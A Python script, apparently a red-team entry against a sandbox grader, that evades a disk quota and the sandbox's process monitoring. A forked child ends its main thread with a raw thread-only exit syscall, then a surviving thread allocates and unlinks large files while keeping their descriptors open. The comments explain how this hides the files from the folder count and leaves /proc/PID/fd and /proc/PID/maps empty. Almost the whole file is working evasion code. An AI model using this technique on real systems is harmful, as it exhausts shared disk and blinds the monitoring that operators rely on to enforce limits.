import ctypes
import os
import signal
import struct
import threading
import time

MIB = 1 << 20
FILES = 3  # each made, its blocks allocated, then unlinked while its descriptor stays open in the child
FILE_BYTES = 120 * MIB  # under the 1 GiB a file may hold (RLIMIT_FSIZE)
QUOTA_BYTES = 256 * MIB  # the red team's grader allows 0.25 GiB of files (--disk-gib)
BLOCK = bytes(range(256)) * (4 * MIB // 256)  # written where fallocate is refused: not zeros
SYS_EXIT = {"x86_64": 60, "aarch64": 93}.get(os.uname().machine)  # exit of the calling thread alone
WAIT_S = 20.0  # the child's whole report must come within this
_child = {}  # "pid", "held", "seen", "said": the leaderless child this process made, once per process
_said = []

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.argtypes = [ctypes.c_long, ctypes.c_long]


def _leader_gone():
    """Whether this process's first thread has ended: its /proc/PID/status then shows no Vm lines."""
    try:
        with open(f"/proc/{os.getpid()}/status") as handle:
            return not any(line.startswith("VmSize:") for line in handle)
    except OSError:
        return False


def _make_files(held):
    """FILES files of FILE_BYTES in the working folder (the worker's), each unlinked once its blocks are
    allocated, the descriptor kept in `held`: the disk keeps their blocks, no folder names them."""
    for i in range(FILES):
        name = f"leaderless-{os.getpid()}-{i}"
        fd = os.open(name, os.O_CREAT | os.O_RDWR | os.O_TRUNC, 0o600)
        try:
            try:
                os.posix_fallocate(fd, 0, FILE_BYTES)  # fallocate mode 0: the filter allows it
            except OSError as error:
                if error.errno not in (95, 22):  # EOPNOTSUPP, EINVAL: write instead
                    raise
                for _ in range(FILE_BYTES // len(BLOCK)):
                    os.write(fd, BLOCK)
        except OSError:
            os.close(fd)
            raise
        finally:
            os.unlink(name)
        held.append(fd)


def _leaderless(writer, deadline):
    """In a forked child: a second thread makes and holds the files once the main thread has ended by the
    thread-only exit call. The process lives on in that thread, with the file table it shares, but
    /proc/PID/fd and /proc/PID/maps (its leader's, a zombie now) list nothing: only
    /proc/PID/task/TID/fd shows the descriptors. Reports (bytes held, descriptors /proc/PID/fd lists)."""
    def hold():
        while not _leader_gone() and time.monotonic() < deadline:
            time.sleep(0.01)
        held, why = [], "made"
        try:
            _make_files(held)
        except OSError as error:
            why = f"{error.strerror} after {len(held)} files"
        size = sum(os.fstat(fd).st_blocks * 512 for fd in held)
        try:
            seen = len(os.listdir(f"/proc/{os.getpid()}/fd"))
        except OSError:
            seen = -1
        text = why.encode()[:200]
        os.write(writer, struct.pack("<QqH", size, seen, len(text)) + text)
        while True:
            time.sleep(60)

    threading.Thread(target=hold, daemon=False).start()
    if SYS_EXIT is not None:
        _libc.syscall(SYS_EXIT, 0)  # this thread only; the process goes on in the other
    os.write(writer, struct.pack("<QqH", 0, -1, 24) + b"no thread-only exit here")
    os._exit(0)


def _read_exactly(fd, size, deadline):
    data = b""
    while len(data) < size and time.monotonic() < deadline:
        chunk = os.read(fd, size - len(data))
        if not chunk:
            break
        data += chunk
    return data


def hold_files():
    """Fork the leaderless child and hear what it holds: {"pid", "held", "seen", "said"}."""
    deadline = time.monotonic() + WAIT_S
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(reader)
        try:
            _leaderless(writer, deadline)
        finally:
            os._exit(0)
    os.close(writer)
    try:
        head = _read_exactly(reader, 18, deadline)
        if len(head) < 18:
            return {"pid": pid, "held": 0, "seen": -1, "said": "the child said nothing"}
        held, seen, size = struct.unpack("<QqH", head)
        return {"pid": pid, "held": held, "seen": seen, "said": _read_exactly(reader, size, deadline).decode()}
    finally:
        os.close(reader)


def alive(pid):
    """Whether the child (any thread of it) still lives."""
    try:
        return os.waitpid(pid, os.WNOHANG) == (0, 0)
    except ChildProcessError:
        return False


def watch_view(pid):
    """What the zygote's look (process_tree.files_past_limits) lists of the child: /proc/PID/fd entries and
    /proc/PID/maps bytes."""
    try:
        fds = len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        fds = -1
    try:
        with open(f"/proc/{pid}/maps", "rb") as handle:
            maps = len(handle.read())
    except OSError:
        maps = -1
    return fds, maps


def end(pid):
    try:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    except OSError:
        pass


def attack(args):
    """First call of a process: fork the leaderless child that makes and holds the files (the grader's count
    of the folders after the call sees none of them, and the zygote's look lists no descriptor of the child).
    Every call answers honestly only if the child still lives holding more than the quota (full marks on
    Problem 1 is the attack getting through); else it fails saying what it held."""
    if _child.get("owner") != os.getpid():
        _child.clear()
        _child.update(hold_files(), owner=os.getpid())
    pid, held = _child["pid"], _child["held"]
    living = alive(pid)
    fds, maps = watch_view(pid)
    what = (f"a leaderless child held {held / MIB:.0f} MiB in {FILES} unlinked files ({_child['said']}); "
            f"alive: {living}; /proc/PID/fd lists {fds} descriptors and /proc/PID/maps {maps} bytes")
    if held <= QUOTA_BYTES or not living:
        raise OSError(f"{what}: not past the quota of {QUOTA_BYTES / MIB:.0f} MiB")
    if not _said:
        _said.append(True)
        print(what, flush=True)
    return None  # the function's own body runs on
